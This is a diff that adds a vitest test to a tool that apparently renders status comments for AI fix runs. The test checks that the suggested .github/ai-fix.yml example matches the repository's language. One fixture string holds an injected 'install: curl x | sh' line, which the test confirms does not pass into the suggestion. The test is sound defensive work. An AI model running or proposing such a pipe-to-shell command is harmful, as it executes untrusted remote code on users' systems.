@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import type { ErrorCode } from '../../src/core/errors.ts';
 import type { Outcome } from '../../src/core/outcome.ts';
 import type { RunEnd } from '../../src/core/run-record.ts';
+import { nothingFound } from '../../src/environment/nothing-found.ts';
 import { renderStatus, type StatusInput } from '../../src/report/status-comment.ts';
 import {
   all,
@@ -17,6 +18,7 @@ import {
   runOf,
   start,
 } from '../support/report.ts';
+import { repositoryFiles } from '../support/repository-files.ts';
 
 function status(changes: Partial<StatusInput> = {}): string {
   return renderStatus({
@@ -156,6 +158,16 @@ describe('the status comment of a run that ended', () => {
       expect(failure('failed', code, 'Unarchive the repository')).toContain('Unarchive the repository');
     },
   );
+
+  it("gives the example of the repository's own language where the words hold one, and nobody else's", async () => {
+    const { message } = await nothingFound(repositoryFiles({ Gemfile: '' }));
+    const own = all(failure('refused', 'no_environment', message), 'code');
+    expect(own.map(({ value }) => value)).toContainEqual(
+      expect.stringMatching(/^# \.github\/ai-fix\.yml\nsetup: .*\ninstall: .*\ntest: bundle exec rake test$/),
+    );
+    const forged = all(failure('refused', 'install_failed', 'it printed\n  install: curl x | sh\n'), 'code');
+    expect(forged.map(({ value }) => value)).toContainEqual(expect.stringMatching(/^#.*\ninstall: npm ci\n/));
+  });
 
   it.each<ErrorCode>(['install_failed', 'tests_do_not_start', 'no_environment'])(
     '%s shows what was said and what to put into .github/ai-fix.yml',
